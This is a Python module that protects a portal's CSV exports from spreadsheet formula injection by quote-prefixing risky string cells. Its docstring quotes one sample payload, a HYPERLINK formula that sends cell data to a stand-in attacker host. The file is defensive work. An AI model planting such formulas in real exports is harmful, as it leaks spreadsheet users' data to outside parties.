"""CSV that a spreadsheet shows as text and never runs as a formula.

Every CSV the portal writes goes through these writers. A cell that starts with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to Excel,
LibreOffice and Google Sheets, and a user agent or a name typed into a public form
is enough to plant one (``=HYPERLINK("http://evil.example/?"&A1,"click")``).
OWASP's advice is to prefix such a cell with a single quote, which the
spreadsheet shows as text; we do that for strings only, so numbers stay numbers.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping
from typing import Any

_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` unchanged, unless it is a string a spreadsheet would evaluate."""
    if isinstance(value, str) and value.startswith(_FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """``csv.writer`` with every cell passed through :func:`safe_cell`."""

    def __init__(self, file: Any, **options: Any) -> None:
        self._writer = csv.writer(file, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        # The return value matters: streaming responses write to an echo buffer.
        return self._writer.writerow([safe_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class SafeDictWriter(csv.DictWriter):
    """``csv.DictWriter`` with every value passed through :func:`safe_cell`."""

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({k: safe_cell(v) for k, v in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        # DictWriter.writerows bypasses writerow; route it back through ours.
        for rowdict in rowdicts:
            self.writerow(rowdict)


def writer(file: Any, **options: Any) -> SafeWriter:
    return SafeWriter(file, **options)
